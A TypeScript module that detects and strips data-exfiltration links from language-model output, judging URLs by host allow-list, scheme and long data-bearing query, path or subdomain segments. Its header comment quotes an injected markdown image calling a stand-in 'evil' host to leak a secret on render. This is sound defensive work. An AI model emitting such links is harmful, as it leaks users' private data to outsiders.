// Exfiltration links in model output. A markdown image is fetched by the
// client as soon as it renders, so an injected "![](https://evil/?d=SECRET)"
// leaks data without a click. Images and links to hosts outside the
// allow-list, non-web schemes and URLs whose query carries a payload are
// removed; link text is kept so the answer still reads.

export type LinkFinding = {
  kind: 'image' | 'link' | 'bare-url' | 'html';
  start: number;
  end: number;
  reason: 'host-not-allowed' | 'query-data' | 'scheme' | 'unparseable';
  /** Visible text to keep in place of the link (markdown link text), if any. */
  keepText?: string;
};

export interface LinkPolicy {
  allowedHosts: string[];
  maxQueryValueChars: number;
}

// Bounded, non-nested patterns: markdown [text](url "title"), images, HTML src/href, bare URLs.
const markdownLink = /(!?)\[([^\[\]\n]{0,1000})\]\(\s{0,16}<?([^\s()<>]{1,4096})>?(?:\s{1,16}(?:"[^"\n]{0,500}"|'[^'\n]{0,500}'))?\s{0,16}\)/g;
const referenceDefinition = /^ {0,3}\[[^\]\n]{1,200}\]:[ \t]{0,16}<?([^\s<>]{1,4096})>?/gm;
const htmlAttribute = /<(img|a|iframe|script|link|source|video|audio)\b[^>]{0,2000}?\b(?:src|href|srcset|data)\s{0,4}=\s{0,4}["']?([^"'\s>]{1,4096})[^>]{0,2000}>/gi;
const bareUrl = /\b(?:https?|ftp|data|file):[^\s<>()"'`]{2,4096}/gi;

function hostAllowed(host: string, allowed: string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  return allowed.some((a) => h === a || h.endsWith(`.${a}`));
}

/** Why a URL must go, or undefined when it may stay. */
export function judgeUrl(value: string, policy: LinkPolicy): LinkFinding['reason'] | undefined {
  let url: URL;
  try {
    url = new URL(value);
  } catch {
    // Relative links cannot reach another host; keep them.
    return /^[a-z][a-z0-9+.-]{0,20}:/i.test(value) ? 'unparseable' : undefined;
  }
  if (url.protocol === 'mailto:' || url.protocol === 'tel:') return undefined;
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return 'scheme';
  if (!hostAllowed(url.hostname, policy.allowedHosts)) return 'host-not-allowed';
  // A long subdomain label under an allowed suffix is a DNS data channel.
  if (url.hostname.split('.').some((label) => label.length > 40)) return 'query-data';
  for (const [, v] of url.searchParams) if (v.length > policy.maxQueryValueChars) return 'query-data';
  if (url.search.length > policy.maxQueryValueChars * 4) return 'query-data';
  // Data hidden in the path or fragment as one long opaque segment.
  if (url.pathname.split('/').some((seg) => seg.length > policy.maxQueryValueChars * 2)) return 'query-data';
  if (url.hash.length > policy.maxQueryValueChars * 2) return 'query-data';
  return undefined;
}

export function findExfiltrationLinks(text: string, policy: LinkPolicy): LinkFinding[] {
  const found: LinkFinding[] = [];
  const covered: Array<[number, number]> = [];
  let sorted = true;
  // Binary search over the (sorted, merged) covered ranges keeps many links linear-ish.
  const isCovered = (s: number, e: number) => {
    if (!sorted) {
      covered.sort((a, b) => a[0] - b[0]);
      sorted = true;
    }
    let lo = 0;
    let hi = covered.length - 1;
    while (lo <= hi) {
      const mid = (lo + hi) >> 1;
      const [a, b] = covered[mid]!;
      if (b <= s) lo = mid + 1;
      else if (a >= e) hi = mid - 1;
      else return true;
    }
    return false;
  };
  const cover = (s: number, e: number) => {
    covered.push([s, e]);
    sorted = false;
  };

  markdownLink.lastIndex = 0;
  for (let m = markdownLink.exec(text); m !== null; m = markdownLink.exec(text)) {
    const start = m.index;
    const end = start + m[0].length;
    cover(start, end);
    const reason = judgeUrl(m[3]!, policy);
    if (reason) found.push({ kind: m[1] ? 'image' : 'link', start, end, reason, keepText: m[1] ? undefined : m[2] });
  }
  referenceDefinition.lastIndex = 0;
  for (let m = referenceDefinition.exec(text); m !== null; m = referenceDefinition.exec(text)) {
    const start = m.index;
    const end = start + m[0].length;
    cover(start, end);
    const reason = judgeUrl(m[1]!, policy);
    if (reason) found.push({ kind: 'link', start, end, reason });
  }
  htmlAttribute.lastIndex = 0;
  for (let m = htmlAttribute.exec(text); m !== null; m = htmlAttribute.exec(text)) {
    const start = m.index;
    const end = start + m[0].length;
    if (isCovered(start, end)) continue;
    cover(start, end);
    const reason = judgeUrl(m[2]!, policy);
    if (reason) found.push({ kind: 'html', start, end, reason });
  }
  bareUrl.lastIndex = 0;
  for (let m = bareUrl.exec(text); m !== null; m = bareUrl.exec(text)) {
    const value = m[0].replace(/[.,;:!?]+$/, '');
    const start = m.index;
    const end = start + value.length;
    if (isCovered(start, end)) continue;
    const reason = judgeUrl(value, policy);
    if (reason) found.push({ kind: 'bare-url', start, end, reason });
  }
  return found.sort((a, b) => a.start - b.start);
}
